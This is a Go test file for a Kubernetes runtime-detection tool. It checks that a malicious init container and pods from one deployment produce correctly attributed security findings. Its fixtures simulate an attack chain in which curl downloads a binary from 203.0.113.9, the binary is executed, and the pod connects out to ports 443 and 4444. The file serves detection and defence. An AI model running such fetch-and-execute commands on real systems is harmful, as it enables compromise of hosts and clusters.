package partition_test

import (
	"errors"
	"net/netip"
	"strings"
	"testing"

	"tidewaiter/analytic"
	"tidewaiter/event"
	"tidewaiter/finding"
	"tidewaiter/image"
)

// deployed tells of a pod of a deployment, its containers by name and image,
// and its address.
func (w *tale) deployed(second, n int, addr string, specs ...event.ContainerSpec) event.ObjectRef {
	pod := event.ObjectRef{Kind: "Pod", Namespace: "prod", Name: "web-5b7c9-" + string(rune('a'+n)), UID: "u" + string(rune('a'+n))}
	host := w.host
	w.host, w.cluster = "", "main"
	set := event.ObjectRef{Kind: "ReplicaSet", Namespace: "prod", Name: "web-5b7c9"}
	w.add(event.KubeAudit, at(second-2), 1, &event.Workload{Verb: event.VerbCreate, Object: event.ObjectRef{Kind: "Deployment", Namespace: "prod", Name: "web"}, By: event.Principal{Name: "alice@corp.example"}, Code: 201, Template: &event.PodSpec{Containers: specs}})
	w.add(event.KubeAudit, at(second-1), 1, &event.Pod{Verb: event.VerbCreate, Object: pod, Owner: set, By: event.Principal{Name: "controller"}, Code: 201, Spec: &event.PodSpec{Containers: specs}})
	status := &event.PodStatus{Object: pod, Node: "h", Addrs: []netip.Addr{netip.MustParseAddr(addr)}}
	for i, c := range specs {
		status.Containers = append(status.Containers, event.ContainerStatus{Name: c.Name, Kind: c.Kind, ID: idOf(n*10 + i), Image: c.Image, ImageID: digest(n*10 + i)})
	}
	w.add(event.KubeAudit, at(second+3), 1, status)
	w.host = host
	for i := range specs {
		w.add(event.Containerd, at(second), 1, &event.Task{Action: event.TaskStart, Container: idOf(n*10 + i), PID: 1000 + n*10 + i})
	}
	return pod
}

func container(name, ref string, kind event.ContainerKind) event.ContainerSpec {
	return event.ContainerSpec{Name: name, Kind: kind, Image: image.Parse(ref)}
}

// An init container drops what the main container runs: one finding, on the
// pod, about the image that brought it, and not about the clean one.
func TestTheCleanContainerIsNotBlamed(t *testing.T) {
	w := newTale(t, strictPolicy)
	w.deployed(60, 1, "10.42.0.7", container("setup", "evil.example/setup:1", event.InitContainer), container("app", "good.example/app:1", event.MainContainer))
	w.run(62, 1010, "curl", "-o", "/shared/agent", "http://203.0.113.9/a")
	w.exec(at(64), 1011, 1, "/shared/agent", []string{"/shared/agent"}, "")
	w.host = ""
	w.connect(65, "10.42.0.7", "203.0.113.9:443")
	f := w.one()
	s := f.Subjects[0]
	if s.Pod == nil || s.Container == nil || s.Container.Name != "setup" || f.Cause != digest(10).String() {
		t.Errorf("about %+v, cause %s", s.Container, f.Cause)
	}
	if got := strings.Join(signals(f), " "); !strings.Contains(got, "image-untrusted") || !strings.Contains(got, "dropped-then-executed") || !strings.Contains(got, "egress-unapproved") {
		t.Errorf("signals %s", got)
	}
	if f.Owner != "main/prod/deployment/web" || s.PodWords() != "pod prod/web-5b7c9-b on h of deployment/web, asked for by alice@corp.example" {
		t.Errorf("owner %q, %q", f.Owner, s.PodWords())
	}
	for _, l := range []string{"creation", "start", "command", "egress"} {
		if leg(f, l) != analytic.Seen {
			t.Errorf("leg %s is %s", l, leg(f, l))
		}
	}
}

// The pods of one deployment are one finding with all of them in it.
func TestPodsOfOneOwnerAreOneFinding(t *testing.T) {
	w := newTale(t, strictPolicy)
	for n, addr := range []string{"10.42.0.7", "10.42.0.8"} {
		w.cluster = "main"
		c := container("web", "evil.example/x:1", event.MainContainer)
		w.deployed(60+n, n, addr, c)
		w.host = ""
		w.add(event.KubeAudit, at(70), 1, &event.PodStatus{Object: event.ObjectRef{Kind: "Pod", Namespace: "prod", Name: "web-5b7c9-" + string(rune('a'+n)), UID: "u" + string(rune('a'+n))},
			Containers: []event.ContainerStatus{{Name: "web", ID: idOf(n * 10), ImageID: digest(77)}}})
		w.connect(65+n, addr, "203.0.113.9:4444")
		w.host = "h"
	}
	// Both ran one image: what the kubelet said first of each is another name
	// of it.
	for n := range 2 {
		w.host = "h"
		w.add(event.Inspect, 0, 1, &event.ImageDescription{ID: digest(n * 10), RepoDigests: []image.Reference{image.Parse("evil.example/x@" + digest(77).String())}})
	}
	f := w.one()
	if len(f.Subjects) != 2 || f.Severity < analytic.Low {
		t.Errorf("%d subjects, %s: %s", len(f.Subjects), f.Severity, f.Title)
	}
	if !strings.Contains(f.Title, "evil.example/x:1 in prod/web-5b7c9-") {
		t.Errorf("title %q", f.Title)
	}
	var found []finding.Entity
	for _, e := range f.OCSF(unreadable{}, "test").Unmapped.Entities {
		found = append(found, e)
	}
	if len(found) != 2 || found[0].Workload != "deployment/web" || found[0].Principal != "alice@corp.example" || found[0].Kind != "pod" {
		t.Errorf("entities %+v", found)
	}
}

// unreadable are records that cannot be read again.
type unreadable struct{}

func (unreadable) Read(event.Origin) (string, error) { return "", errors.New("gone") }
